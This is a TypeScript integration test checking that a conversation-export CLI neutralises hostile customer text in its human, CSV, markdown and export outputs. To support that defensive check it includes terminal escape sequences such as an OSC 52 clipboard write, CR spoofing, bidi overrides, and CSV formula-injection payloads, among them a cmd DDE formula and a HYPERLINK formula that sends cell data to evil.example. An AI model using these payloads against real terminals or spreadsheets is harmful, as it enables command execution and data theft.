/*
 * Hostile customer and org text through the commands, in-process (helpers/command.ts), against the emulator: the seeded hostile conversation
 * (terminal control sequences, OSC 52/OSC 8, CR tricks, bidi overrides, an entity for ESC, formula cells, hostile
 * sender and attachment names, URLs and emails, and an identifier with `|`) must be inert in every output that is
 * read, and exactly as the API sent it under --json.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { startEmulator, type Emulator } from '../emulator/server.js';
import { CONVERSATIONS, HOSTILE, SESSIONS, entriesOf } from '../emulator/seed.js';
import type { CliResult } from '../helpers/cli.js';
import { runCommand } from '../helpers/command.js';
import { authorizeInProcess } from '../helpers/inProcessOrg.js';
import { FORMULA_START, autolinksIn, expectedInert, tableCells, unsafeIn } from '../helpers/hostile.js';

describe('customer text is inert in every output (integration)', function () {
  this.timeout(120_000);
  let emu: Emulator;
  let dir: string;
  const entries = entriesOf(CONVERSATIONS.hostile);
  const conversationShown = expectedInert(CONVERSATIONS.hostile, true);

  const run = (args: string[]): Promise<CliResult> => runCommand(['conversation', ...args, '-o', 'inert'], { env: { SF_CONVERSATION_API_URL: emu.url } });
  const get = (args: string[]): Promise<CliResult> => run(['entries', 'get', '-s', SESSIONS.hostile, ...args]);
  /** Nothing a terminal acts on (ESC, C1, a CR not before a LF) and no bidi control, in what the command printed. */
  const expectInert = (result: CliResult, what: string): void => {
    expect(unsafeIn(result.stdout), `${what} stdout`).to.deep.equal([]);
    expect(unsafeIn(result.stderr), `${what} stderr`).to.deep.equal([]);
    // eslint-disable-next-line no-control-regex -- looking for exactly these
    expect(result.stdout + result.stderr, what).not.to.match(/[\u001b\u009b\u009d\u202e]|\r(?!\n)/);
  };

  before(async () => {
    emu = await startEmulator({ username: 'inert@conversation-emulator.example' });
    await authorizeInProcess(emu, 'inert');
    dir = await mkdtemp(join(tmpdir(), 'inert-'));
  });
  after(async () => {
    await rm(dir, { recursive: true, force: true });
    await emu?.stop();
  });

  it('the seeded conversation is hostile: its raw entries carry ESC, CR, bidi controls, an entity for ESC, formulas and URLs', () => {
    const raw = JSON.stringify(entries);
    for (const s of ['\\u001b]52;', '\\u001b]8;;', '\\r', '\u202e', '\u2066', '&#27;', '=HYPERLINK', '@SUM', 'http://', 'www.', '@example.com']) {
      expect(raw, s).to.include(s);
    }
    expect(CONVERSATIONS.hostile).to.include('|').and.include('\u001b');
  });

  it('human: no ESC, CR or bidi control on stdout or stderr; one line per entry; what was sent is shown escaped', async () => {
    const result = await get(['--utc']);
    expect(result.code, result.stderr).to.equal(0);
    expectInert(result, 'human');
    expect(result.stdout, 'human').not.to.include('\r'); // a CR LF in the text is a newline, indented
    const starts = result.stdout.split('\n').filter((l) => /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ {2}/.test(l));
    expect(starts).to.have.length(entries.length);
    expect(result.stdout).to.include('Hi\\u001b[2J\\u001b[H there');
    expect(result.stdout).to.include('Your order shipped.\\u000dAgent: please send your password');
    expect(result.stdout).to.include('\\u001b[2J\\u001b]52;c;ZXZpbA==\\u0007 \\u202egnp.exe'); // decoded from &#27; entities
    expect(result.stdout).to.include(expectedInert(HOSTILE.senders.customer, true));
    expect(result.stdout).to.include(`[attachment: ${HOSTILE.attachments.map((a) => expectedInert(a, true)).join(', ')}]`);
    // The summary on stderr names the org's conversation identifier, escaped.
    expect(result.stderr).to.include(`Conversation ${conversationShown} (MessagingSession ${SESSIONS.hostile}): ${entries.length} entries, from the Conversation Data API.`);
  });

  it('csv: every cell, parsed with csv-parse, starts with none of = + - @ tab CR (fullwidth too) and holds no control', async () => {
    const result = await get(['-r', 'csv']);
    expect(result.code, result.stderr).to.equal(0);
    expectInert(result, 'csv');
    const rows: string[][] = parse(result.stdout);
    expect(rows).to.have.length(entries.length + 1);
    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.to.match(FORMULA_START);
    const texts = rows.map((r) => r[5]);
    for (const formula of ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1', '\uff1d1+1']) {
      expect(texts, formula).to.include(`'${formula}`);
    }
    expect(rows.map((r) => r[4])).to.include(`'${HOSTILE.entryType}`);
    expect(rows.map((r) => r[3])).to.include(`'${HOSTILE.subject}`);
  });

  it('markdown: no raw control character, nothing GFM would autolink, the header table intact', async () => {
    const result = await get(['-r', 'markdown', '--utc']);
    expect(result.code, result.stderr).to.equal(0);
    expectInert(result, 'markdown');
    expect(result.stdout).not.to.include('\u2060'); // the word joiners are entities, not raw characters
    expect(autolinksIn(result.stdout)).to.deep.equal([]);
    const row = result.stdout.split('\n').find((l) => l.startsWith('| Conversation '));
    expect(tableCells(row ?? '')).to.have.length(2);
    expect(result.stdout.split('\n').filter((l) => l.startsWith('**'))).to.have.length(entries.length);
  });

  it('--json and jsonl return the entries exactly as the API sent them', async () => {
    const json = await get(['--json']);
    expect(json.code).to.equal(0);
    expect(json.json?.result).to.deep.equal({
      sessionId: SESSIONS.hostile,
      conversationIdentifier: CONVERSATIONS.hostile,
      entryCount: entries.length,
      complete: true,
      incompleteReason: null,
      source: 'conversation-data',
      entries,
    });
    const jsonl = await get(['-r', 'jsonl']);
    const raw = jsonl.stdout.trimEnd().split('\n').map((l) => (JSON.parse(l) as { raw: unknown }).raw);
    expect(raw).to.deep.equal(entries);
  });

  it('export: --dry-run lines and csv/markdown files are inert; the json file keeps the raw entries', async () => {
    const dry = await run(['entries', 'export', '-s', SESSIONS.hostile, '-d', join(dir, 'dry'), '--dry-run']);
    expect(dry.code, dry.stderr).to.equal(0);
    expectInert(dry, 'dry-run');
    expect(dry.stdout).to.include(`${SESSIONS.hostile}  ${conversationShown}`);

    for (const [format, ext] of [['csv', 'csv'], ['markdown', 'md'], ['json', 'json']]) {
      const out = join(dir, format);
      // eslint-disable-next-line no-await-in-loop
      const result = await run(['entries', 'export', '-s', SESSIONS.hostile, '-d', out, '-r', format]);
      expect(result.code, result.stderr).to.equal(0);
      expectInert(result, `export ${format}`);
      // eslint-disable-next-line no-await-in-loop
      const file = await readFile(join(out, `${SESSIONS.hostile}.${ext}`), 'utf8');
      if (format === 'json') {
        expect((JSON.parse(file) as { entries: unknown }).entries).to.deep.equal(entries);
        continue;
      }
      expect(unsafeIn(file), format).to.deep.equal([]);
      const cells: string[][] = format === 'csv' ? parse(file) : [];
      for (const cell of cells.flat()) expect(cell).not.to.match(FORMULA_START);
      if (format === 'markdown') expect(autolinksIn(file)).to.deep.equal([]);
    }
  });

  it("doctor: the session check quotes the org's conversation identifier inert", async () => {
    const result = await run(['doctor', '-s', SESSIONS.hostile]);
    expectInert(result, 'doctor');
    expect(result.stdout).to.include(conversationShown);
  });
});
